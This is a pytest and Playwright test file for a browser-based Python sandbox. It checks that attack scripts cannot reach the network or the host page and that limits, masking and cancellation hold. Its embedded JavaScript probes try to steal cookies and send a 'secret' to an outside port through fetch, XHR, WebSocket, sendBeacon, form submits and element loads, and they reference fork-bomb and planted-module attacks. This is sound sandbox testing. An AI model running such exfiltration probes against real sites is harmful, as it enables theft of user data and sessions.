"""Python in the browser: the attacks reach nothing and leave nothing, honest scripts work, limits hold.

Proof is what the server's log, a port beside it and the browser's own network log saw, never what a script says.
"""

import hashlib
import json
import os
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Request

from spadework.web import headers, pages
from tests.browser import frame_site
from tests.sandbox import attacking

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

HERE = Path(__file__).parent
ATTACKS = sorted([*(HERE / "frame_attacks").glob("*.py"), *(HERE.parent / "sandbox/attacks").glob("*.py")])
# A browser has no processes to be one too many of: what starts one fails at once, and the script goes on.
ENDS_EITHER_WAY = {"daemon", "fork_bomb", "ignores_signals", "thread_bomb", "sleep_forever", "kill_everybody"}
# A run has a file system, a terminal and names of its own, all in memory and gone with it: what these attacks
# write or look up there is nobody's. What they did is looked for in the run after them.
INVENTED = {"kernel_switches", "name_lookup", "planted_modules", "terminal_input"}

_READY = """async () => {
  window.door = await import("/python/door.js");
  await new Promise((resolve, reject) => {
    const look = () => door.phase() === "ready" ? resolve() : door.phase() === "failed" ? reject(new Error("failed")) : 0;
    door.onPhase(look); door.warm(); look();
  });
}"""
_RUN = """async ([request, texts]) => {
  const files = {};
  for (const [field, given] of Object.entries(texts)) files[field] = given.map(([name, text]) => new File([text], name));
  const lines = [], shares = [];
  const on = { log: (line) => lines.length < 1000 && lines.push(line.slice(0, 1000)), progress: (share) => shares.push(share) };
  try {
    const outcome = await door.run({ files, ...request }, on).result;
    const outputs = await Promise.all(outcome.outputs.map(async ({ name, blob, preview }) =>
      ({ name, preview, type: blob.type, size: blob.size, text: (await blob.text()).slice(0, 5000) })));
    return { ...outcome, log: outcome.log.slice(0, 50000), logged: outcome.log.length, outputs, lines, shares };
  } catch (error) { return { code: error.code ?? String(error), message: error.message }; }
}"""


@dataclass
class Bench:
    """A page of the site with the door open."""

    page: Page
    site: frame_site.Site
    asked: list[str]

    def run(self, script: str, files: dict[str, list[tuple[str, str]]] | None = None, **request: Any) -> dict[str, Any]:
        """What came of a script, or the refusal's code and message."""
        wanted = {"script": script, "sha256": hashlib.sha256(script.encode()).hexdigest(), "values": {}, **request}
        outcome: dict[str, Any] = self.page.evaluate(_RUN, [wanted, files or {}])
        return outcome

    def arrived(self) -> list[str]:
        """Every request the server, the port beside it or the browser's network log saw so far."""
        return [*self.site.arrived(), *self.asked]


@pytest.fixture(scope="module")
def bench(browser: Browser) -> Iterator[Bench]:
    with frame_site.served() as site:
        context = browser.new_context()
        asked: list[str] = []
        context.on(
            "response", lambda reply: asked.append(f"the browser got {reply.url}") if _leaves(reply.request) else None
        )
        context.on(
            "requestfailed",
            lambda request: asked.append(f"the browser asked {request.url}") if _left(request) else None,
        )
        context.add_cookies([{"name": "session", "value": "cookie-canary", "url": site.address}])
        page = context.new_page()
        page.goto(f"{site.address}/blank")
        page.evaluate(_READY)
        yield Bench(page, site, asked)
        context.close()


def _leaves(request: Request) -> bool:
    return not request.url.startswith("blob:")  # the worker's own script, which is already in the browser


def _left(request: Request) -> bool:
    """Whether a request that failed had left the browser; its policies refuse before."""
    return _leaves(request) and "csp" not in (request.failure or "").lower()


def limits_of(script: str) -> dict[str, int]:
    return {"seconds": 4, "megabytes": 300} if "# expect: stopped" in script else {"seconds": 30, "megabytes": 300}


@pytest.mark.parametrize("path", ATTACKS, ids=lambda path: path.stem)
def test_an_attack_in_the_browser_reaches_nothing(path: Path, bench: Bench, tmp_path: Path) -> None:
    script = path.read_text()
    before = bench.arrived()
    canary = "ana.pereira@example.com"
    with attacking.surroundings(tmp_path) as surroundings:
        texts = {name: value for name, value in surroundings.items() if isinstance(value, str)}
        values = {**texts, "address": bench.site.address, "outside": str(bench.site.outside)}
        outcome = bench.run(
            script, {"people": [("people.csv", f"email\n{canary}\n")]}, values=values, limits=limits_of(script)
        )
    assert "success" in outcome, outcome
    told = outcome["log"] + "".join(each["text"] for each in outcome["outputs"])
    assert path.stem in INVENTED or "ESCAPED" not in told, told
    assert texts["canary"] not in told
    if path.stem not in ENDS_EITHER_WAY:
        assert outcome["success"] is ("# expect: held" in script), outcome
    if outcome["failure"]:
        assert re.fullmatch(r"[Aa\W_]*", outcome["failure"]["message"]), outcome["failure"]
    assert bench.arrived() == before
    assert len(bench.page.frames) == 2  # the page and one frame: nothing was opened, nothing left behind
    assert bench.page.context.pages == [bench.page]
    assert bench.page.url.endswith("/blank")


def test_all_forty_attacks_are_run_here_too() -> None:
    assert len(ATTACKS) >= 45


def test_what_a_run_writes_anywhere_is_not_there_for_the_next(bench: Bench) -> None:
    planted = (HERE.parent / "sandbox/attacks/planted_modules.py").read_text()
    look = """
import builtins, os, sys
found = [os.path.join(folder, name) for folder, _, names in os.walk("/") for name in names
         if name in ("sitecustomize.py", "usercustomize.py", "planted.pth", "mark")]
print(sorted(found), hasattr(builtins, "mark"), "mark" in sys.modules)
open("/output/x.txt", "w").write("x")
"""
    mark = "import builtins; builtins.mark = 1; open('/output/mark', 'w').write('x'); open('/tmp/mark', 'w').write('x')"
    assert bench.run(mark)["success"]
    bench.run(planted)
    assert bench.run(look)["log"] == "[] False False\n"


def test_the_rows_in_a_forged_answer_are_not_in_the_outcome(bench: Bench) -> None:
    outcome = bench.run((HERE / "frame_attacks/forge_answers.py").read_text())
    assert outcome["failure"] == {"exception": "Exception", "line": None, "message": ""}
    assert (outcome["rows_in"], outcome["rows_out"], outcome["failure_local"]) == (None, None, None)
    assert outcome["seconds"] > 0


# What JavaScript itself can do in a worker of the frame, with everything still there that our worker takes away.
_WORKER = """
const tried = {};
const attempt = async (name, act) => {
  try { await act(); tried[name] = "done"; } catch (error) { tried[name] = "refused: " + error.name; }
};
const opened = (socket) => new Promise((resolve, reject) => {
  socket.onopen = socket.onmessage = resolve; socket.onerror = () => reject(new Error("closed")); setTimeout(() => reject(new Error("late")), 1000);
});
self.onmessage = async ({ data }) => {
  const { address, outside } = data.sources;
  const elsewhere = "http://127.0.0.1:" + outside + "/?secret";
  for (const url of [address + "/escaped?secret", elsewhere]) {
    await attempt("fetch " + url, () => fetch(url, { mode: "no-cors", credentials: "include" }));
    await attempt("xhr " + url, () => { const asked = new XMLHttpRequest(); asked.open("GET", url, false); asked.send(); });
    await attempt("import " + url, () => import(url));
    await attempt("importScripts " + url, () => importScripts(url));
    await attempt("worker " + url, () => opened(new Worker(url)));
    await attempt("websocket " + url, () => opened(new WebSocket(url.replace("http", "ws"))));
    await attempt("eventsource " + url, () => opened(new EventSource(url)));
    await attempt("font " + url, () => new FontFace("x", "url(" + url + ")").load());
    await attempt("transport " + url, () => new WebTransport(url.replace("http", "https")).ready);
  }
  await attempt("data worker", () => opened(new Worker("data:text/javascript,postMessage(1)")));
  await attempt("nested worker", () => opened(new Worker(URL.createObjectURL(new Blob([
    "fetch('" + elsewhere + "').finally(() => import('" + elsewhere + "')).finally(() => postMessage(1))"])))));
  await attempt("code in a string", () => new Function("return 1")());
  await attempt("eval", () => (0, eval)("1"));
  await attempt("database", () => new Promise((resolve, reject) => { const asked = indexedDB.open("x"); asked.onsuccess = resolve; asked.onerror = reject; }));
  await attempt("caches", () => caches.open("x"));
  await attempt("files", () => navigator.storage.getDirectory());
  await attempt("service worker", () => navigator.serviceWorker.register(address + "/python/door.js"));
  await attempt("location", () => { self.location = elsewhere; });
  tried.peer = typeof RTCPeerConnection;
  tried.timer = typeof setTimeout("self.timed = 1", 0);
  setTimeout(() => postMessage({ kind: "answer", text: JSON.stringify({ ...tried, timed: self.timed ?? 0, origin: self.origin }), blobs: [] }), 500);
};
"""
_WITH_THEIR_WORKER = """async ([worker, sources]) => {
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts"; frame.src = "/python/frame.html"; frame.hidden = true;
  await new Promise((resolve) => { frame.onload = resolve; document.body.append(frame); });
  const { port1: port, port2 } = new MessageChannel();
  const wasm = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]).buffer;
  const told = await new Promise((resolve, reject) => {
    setTimeout(() => reject(new Error("no answer")), 30000);
    port.onmessage = ({ data }) => {
      if (data.kind === "ready") port.postMessage({ kind: "start", worker: "w", does: "x" });
      else if (data.kind === "from") resolve(data.message.text); else reject(new Error(JSON.stringify(data)));
    };
    frame.contentWindow.postMessage(null, "*", [port2]);
    port.postMessage({ kind: "assets", assets: { worker, wasm, stdlib: new ArrayBuffer(0), sources, wheels: {} } });
  });
  frame.remove();
  return told;
}"""


def test_javascript_in_a_worker_of_the_frame_reaches_neither_us_nor_elsewhere(bench: Bench) -> None:
    before = [each for each in bench.arrived() if "/python/frame.html" not in each]
    given = {"address": bench.site.address, "outside": bench.site.outside}
    told = json.loads(bench.page.evaluate(_WITH_THEIR_WORKER, [_WORKER, given]))
    after = [each for each in bench.arrived() if "/python/frame.html" not in each]
    assert after == before, told
    done = {name for name, said in told.items() if said == "done"}
    # A worker that a worker makes has the same policy, and nothing came of it; a location cannot be assigned.
    assert done <= {"nested worker", "location"}, told
    assert told["origin"] == "null"
    assert told["timed"] == 0
    assert told["peer"] == "undefined"  # no policy governs it in Chromium, and workers do not have it


# The same policy and the same sandbox around a script that is free to do what a document can.
_DOCUMENT = """<!doctype html><script>
(async () => {
  const tried = {};
  const attempt = async (name, act) => { try { const got = await act(); tried[name] = "done: " + got; } catch (error) { tried[name] = "refused: " + error.name; } };
  const { address, outside } = JSON.parse(decodeURIComponent(location.hash.slice(1)));
  const elsewhere = "http://127.0.0.1:" + outside + "/?secret";
  const late = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  await attempt("parent's page", () => parent.document.title);
  await attempt("top's page", () => top.document.title);
  await attempt("parent's door", () => typeof parent.door.run);
  await attempt("cookies", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("database", () => indexedDB.open("x"));
  await attempt("top navigation", () => { top.location = elsewhere; });
  await attempt("window", () => { if (!window.open(elsewhere)) throw new Error("none"); });
  await attempt("beacon", () => navigator.sendBeacon(elsewhere, "secret"));
  await attempt("eval", () => eval("1"));
  for (const url of [address + "/escaped?secret", elsewhere]) {
    const add = (tag, set) => { const made = document.createElement(tag); set(made); document.documentElement.append(made); return made; };
    add("img", (each) => { each.src = url; });
    add("link", (each) => { each.rel = "stylesheet"; each.href = url; });
    add("link", (each) => { each.rel = "prefetch"; each.href = url; });
    add("link", (each) => { each.rel = "preload"; each.as = "script"; each.href = url; });
    add("script", (each) => { each.src = url; });
    add("video", (each) => { each.src = url; });
    add("object", (each) => { each.data = url; });
    add("iframe", (each) => { each.src = url; });
    add("div", (each) => { each.setAttribute("style", "background: url(" + url + ")"); });
    add("form", (each) => { each.action = url; each.method = "post"; }).submit();
    await attempt("fetch " + url, () => fetch(url, { credentials: "include" }));
    await attempt("import " + url, () => import(url));
  }
  await late(500);
  parent.postMessage({ told: tried }, "*");
})();
</script>
"""


def test_a_document_with_the_frames_policy_reaches_neither_the_page_nor_the_network(browser: Browser) -> None:
    policy = pages.frame_policy(_DOCUMENT)
    extra = {"/attack": (_DOCUMENT, {"Content-Security-Policy": policy, "X-Frame-Options": "SAMEORIGIN"})}
    with frame_site.served(extra) as site:
        context = browser.new_context()
        context.add_cookies([{"name": "session", "value": "cookie-canary", "url": site.address}])
        page = context.new_page()
        page.goto(f"{site.address}/blank")
        given = json.dumps({"address": site.address, "outside": site.outside})
        told = page.evaluate(
            """(given) => new Promise((resolve, reject) => {
              setTimeout(() => reject(new Error("no answer")), 30000);
              const frame = document.createElement("iframe");
              frame.sandbox = "allow-scripts"; frame.src = "/attack#" + encodeURIComponent(given);
              addEventListener("message", ({ data, source }) => source === frame.contentWindow && resolve(data.told));
              document.body.append(frame);
            })""",
            given,
        )
        # For a frame within the frame Chromium opens a connection before its policy refuses it; nothing is said on it.
        seen = set(site.arrived()) - {"http /favicon.ico", frame_site.SILENT}
        assert seen == {"http /attack", "http /blank"}, told
        assert context.pages == [page]
        assert page.url.endswith("/blank")
        done = {name for name, said in told.items() if said.startswith("done")}
        assert done <= {"beacon"}, told  # it says yes before it is refused; nothing arrived
        context.close()


def test_the_page_itself_may_frame_only_itself_and_the_frame_has_the_stricter_policy(bench: Bench) -> None:
    reply = bench.page.request.get(f"{bench.site.address}/python/frame.html")
    policy = reply.headers["content-security-policy"]
    assert "connect-src 'none'" in policy and "sandbox allow-scripts;" in policy and "default-src 'none'" in policy
    assert "'self'" not in policy.replace("frame-ancestors 'self'", "")
    assert "unsafe-inline" not in policy and "http" not in policy
    blank = bench.page.request.get(f"{bench.site.address}/blank")
    assert blank.headers["content-security-policy"] == headers.CSP
    assert "frame-src 'self'" in headers.CSP and "script-src 'self';" in headers.CSP
    assert blank.headers["x-frame-options"] == "DENY"


_MERGE = """
import csv, sqlite3, json
import openpyxl, python_calamine
from pathlib import Path

db = sqlite3.connect(":memory:")
for field in ("left", "right"):
    path = next(Path("/input_files", field).iterdir())
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    db.execute(f"create table {field} (id text, value text)")
    db.executemany(f"insert into {field} values (?, ?)", rows[1:])
print("progress: 40%")
found = db.execute("select l.id, l.value, r.value from left l join right r on l.id = r.id order by l.id").fetchall()
book = openpyxl.Workbook()
for row in [("id", "left", "right"), *found]:
    book.active.append(row)
book.save("/output/merged.xlsx")
again = python_calamine.load_workbook("/output/merged.xlsx").get_sheet_by_index(0).to_python()
print(json.dumps(again), inputs["note"], note)
print("progress: 100%")
"""


def test_a_merge_with_sqlite_openpyxl_and_calamine_works_with_names_given_back(bench: Bench) -> None:
    files = {"left": [("a.csv", "id,value\n007,Ana\n2,Bo\n")], "right": [("b.csv", "id,value\n007,x\n3,y\n")]}
    outcome = bench.run(_MERGE, files, values={"note": "a'; b"}, outputFilename="merged.xlsx", renames={})
    assert outcome["success"], outcome
    assert '[["id", "left", "right"], ["007", "Ana", "x"]] a\'; b a\'; b' in outcome["log"]
    assert (outcome["rows_in"], outcome["rows_out"], outcome["shares"]) == (4, 1, [0.4, 1])
    (output,) = outcome["outputs"]
    assert (output["name"], output["type"]) == ("merged.xlsx", "application/octet-stream")
    assert output["preview"] == {"columns": ["id", "left", "right"], "rows": [["007", "Ana", "x"]]}


def test_renamed_columns_are_known_to_the_script_by_their_alias_and_to_the_person_by_their_name(bench: Bench) -> None:
    script = "import shutil\nfor line in open('/input_files/t/x.csv'): print(line)\nshutil.copy('/input_files/t/x.csv', '/output/y.csv')"
    outcome = bench.run(script, {"t": [("x.csv", "Salary,b\n1,2\n")]}, renames={"t": {"column_1": "Salary"}})
    assert "column_1,b" in outcome["log"] and "Salary" not in outcome["log"]
    assert outcome["outputs"][0]["text"] == "Salary,b\n1,2\n"


def test_several_outputs_come_as_one_archive_which_is_the_same_each_time(bench: Bench) -> None:
    script = "for n in 'ba': open(f'/output/{n}.csv', 'w').write('x\\n1\\n')"
    (first,), (second,) = (bench.run(script)["outputs"] for _ in range(2))
    assert first["name"].endswith(".zip")
    assert first["text"] == second["text"]


def test_a_script_that_writes_nothing_fails_and_says_so(bench: Bench) -> None:
    outcome = bench.run("print('done')")
    assert outcome["success"] is False
    assert outcome["failure"]["exception"] == "NothingWritten"


def test_an_error_is_masked_for_others_and_whole_for_the_person(bench: Bench) -> None:
    outcome = bench.run("x = 1\nint('Ana 555')\n")
    assert outcome["failure"] == {
        "exception": "ValueError", "line": 2, "message": "aaaaaaa aaaaaaa aaa aaa() aaaa aaaa ##: 'Aaa ###'",
    }  # fmt: skip
    assert "Ana 555" in outcome["failure_local"]


def test_another_script_than_the_approved_one_is_not_run(bench: Bench) -> None:
    outcome = bench.run("print('x')", sha256="0" * 64)
    assert outcome["code"] == "other_script"


def test_a_loop_is_stopped_at_its_limit_and_the_next_run_works(bench: Bench) -> None:
    outcome = bench.run("while True: pass", limits={"seconds": 2})
    assert (outcome["success"], outcome["failure"]["exception"]) == (False, "TimedOut")
    assert 2 <= outcome["seconds"] <= 3
    assert bench.run("open('/output/x', 'w').write('x')")["success"]


def test_memory_ends_at_its_limit_as_an_error_of_the_script(bench: Bench) -> None:
    outcome = bench.run("kept = []\nwhile True: kept.append(bytearray(10_000_000))", limits={"megabytes": 200})
    assert outcome["failure"]["exception"] == "MemoryError"


def test_a_gigabyte_of_prints_leaves_the_page_alive_and_the_log_cut(bench: Bench) -> None:
    script = "for _ in range(10_000): print('x' * 100_000)\nopen('/output/x.txt', 'w').write('x')"
    outcome = bench.run(script, limits={"seconds": 60})
    assert outcome["success"], outcome["failure"]
    assert 1_000_000 <= outcome["logged"] <= 1_000_200
    assert bench.page.evaluate("1 + 1") == 2


def test_a_run_that_is_cancelled_ends_at_once_and_says_so(bench: Bench) -> None:
    script = "while True: pass"
    sha256 = hashlib.sha256(script.encode()).hexdigest()
    told = bench.page.evaluate(
        """async ([script, sha256]) => {
          const work = door.run({ script, sha256, files: {}, values: {} });
          setTimeout(work.cancel, 500);
          try { await work.result; return "finished"; } catch (error) { return error.code; }
        }""",
        [script, sha256],
    )
    assert told == "cancelled"


_CHOOSE = "() => { const made = document.createElement('input'); made.type = 'file'; made.id = 'chosen'; document.body.replaceChildren(made); }"


def _extract(page: Page) -> Any:
    return page.evaluate(
        """async () => {
          const file = document.getElementById("chosen").files[0], shares = [];
          try { return { extracts: await door.extract(file, { seed: 7 }, { progress: (share) => shares.push(share) }).result, shares: shares.length }; }
          catch (error) { return { code: error.code, message: error.message }; }
        }"""
    )


def test_a_file_of_200_megabytes_is_read_in_place_and_its_rows_are_masked(bench: Bench, tmp_path: Path) -> None:
    path = tmp_path / "large.csv"
    line = "007,Ana Pereira,ana.pereira@example.com,2026-11-21,1234.56,Rua das Flores 12\n"
    rows = 200_000_000 // len(line)
    with path.open("w") as file:
        file.write("id,name,email,day,amount,street\n")
        for _ in range(100):
            file.write(line * (rows // 100))
    bench.page.evaluate(_CHOOSE)
    bench.page.locator("#chosen").set_input_files(path)
    (extract,) = _extract(bench.page)["extracts"]
    assert extract["row_count"] == rows // 100 * 100
    assert extract["sample_rows"][0][:3] == ["###", "Aaa Aaaaaaa", "aaa.aaaaaaa@aaaaaaa.aaa"]
    assert bench.page.evaluate("1 + 1") == 2


def test_a_file_that_changed_after_it_was_chosen_is_named_and_not_read(bench: Bench, tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text("a,b\n1,2\n")
    bench.page.evaluate(_CHOOSE)
    bench.page.locator("#chosen").set_input_files(path)
    size = bench.page.evaluate(
        "async () => (await document.getElementById('chosen').files[0].arrayBuffer()).byteLength"
    )
    assert size == path.stat().st_size  # the browser notes when a file was written once somebody looks at it
    path.write_text("a,b\n1,2\n3,4\n")
    os.utime(path, (1, 1))
    told = _extract(bench.page)
    assert told["code"] == "changed"
    assert "people.csv" in told["message"]


def test_synthetic_files_and_join_columns_come_from_the_same_door(bench: Bench) -> None:
    told = bench.page.evaluate(
        """async () => {
          const left = new File(["id,name\\n1,Ana\\n2,Bo\\n3,Cy\\n"], "left.csv"), right = new File(["key,city\\n2,Porto\\n3,Lima\\n9,Oslo\\n"], "right.csv");
          const extracts = (await Promise.all([left, right].map((file) => door.extract(file, { seed: 1 }).result))).flat();
          const made = await door.synthesise(extracts, { seed: 1, rows: 20 });
          const again = await door.synthesise(extracts, { seed: 1, rows: 20 });
          const texts = (files) => Promise.all(files.map(async (file) => [file.name, await file.text()]));
          return { extracts, made: await texts(made), again: await texts(again), joins: await door.suggestJoins([left, right]) };
        }"""
    )
    assert [each["filename"] for each in told["extracts"]] == ["left.csv", "right.csv"]
    assert [name for name, _ in told["made"]] == ["left.csv", "right.csv"]
    assert told["made"] == told["again"]
    assert (told["joins"][0]["left_column"], told["joins"][0]["right_column"]) == ("id", "key")
    assert told["joins"][0]["matched"] == 2


def test_cancelling_a_file_that_waits_leaves_the_others_alone(bench: Bench) -> None:
    told = bench.page.evaluate(
        """async () => {
          const work = ["a", "b", "c"].map((name) => door.extract(new File(["x,y\\n" + "1,2\\n".repeat(50000)], name + ".csv"), { seed: 1 }));
          work[1].cancel();
          return Promise.all(work.map(({ result }) => result.then(([each]) => each.filename, (error) => error.code)));
        }"""
    )
    assert told == ["a.csv", "cancelled", "c.csv"]
